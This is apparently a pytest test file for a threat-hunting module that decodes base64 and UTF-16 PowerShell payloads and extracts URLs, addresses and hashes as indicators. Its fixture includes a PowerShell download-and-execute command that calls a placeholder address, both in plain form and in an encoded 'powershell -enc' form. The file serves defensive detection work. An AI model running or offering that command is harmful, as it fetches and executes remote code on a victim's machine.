"""Payloads: what was planted is found, what is clean gives nothing."""

import base64

import pytest

from connector.hunts.payloads import decoded, indicators, letters

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"


def test_bytes_that_cannot_be_printed_count_as_nothing() -> None:
    assert letters("") == letters("..... \n..") == 0
    assert letters("uid=0(root) gid=0(root)....") == 22


@pytest.mark.parametrize("wide", [False, True], ids=["UTF-8", "UTF-16 of PowerShell"])
def test_hidden_commands_are_read(wide: bool) -> None:
    hidden = base64.b64encode(COMMAND.encode("utf-16-le" if wide else "utf-8")).decode()
    assert decoded(f"POST /x HTTP/1.1\r\n\r\npowershell -enc {hidden} -nop") == (COMMAND,)


def test_base64_without_its_end_or_twice_is_read_once() -> None:
    hidden = base64.b64encode(COMMAND.encode()).decode().rstrip("=")
    assert decoded(f"{hidden} {hidden}") == (COMMAND,)
    assert decoded(hidden[:-3])[0] == COMMAND[: len(decoded(hidden[:-3])[0])]


@pytest.mark.parametrize(
    "clean",
    [
        "",
        "GET /index.html HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: Mozilla/5.0",
        "d41d8cd98f00b204e9800998ecf8427e",
        "/usr/share/doc/packages/something/rather/long/path/README",
        base64.b64encode(bytes(range(128, 256))).decode(),
    ],
    ids=["nothing", "a request", "a hash", "a path", "a picture"],
)
def test_clean_payloads_hide_nothing(clean: str) -> None:
    assert decoded(clean) == ()


def test_indicators_are_found_each_once_in_their_order() -> None:
    text = f"{COMMAND} 198.51.100.7, again 198.51.100.7; md5 d41d8cd98f00b204e9800998ecf8427e."
    assert indicators(text) == (
        ("url", "http://203.0.113.77/a.ps1"),
        ("address", "203.0.113.77"),
        ("address", "198.51.100.7"),
        ("hash", "d41d8cd98f00b204e9800998ecf8427e"),
    )


@pytest.mark.parametrize(
    "clean", ["", "version 1.2.3", "999.1.1.1", "127.0.0.1", "0.0.0.0", "1.2.3.4.5", "http://", "abcdef0123"]
)
def test_clean_payloads_name_nothing(clean: str) -> None:
    assert indicators(clean) == ()


def test_a_huge_payload_costs_no_time_and_gives_no_more_than_a_page() -> None:
    assert len(indicators(" ".join(f"203.0.{number // 256 % 256}.{number % 256}" for number in range(200_000)))) == 50
    assert decoded("A" * 5_000_000) == ()
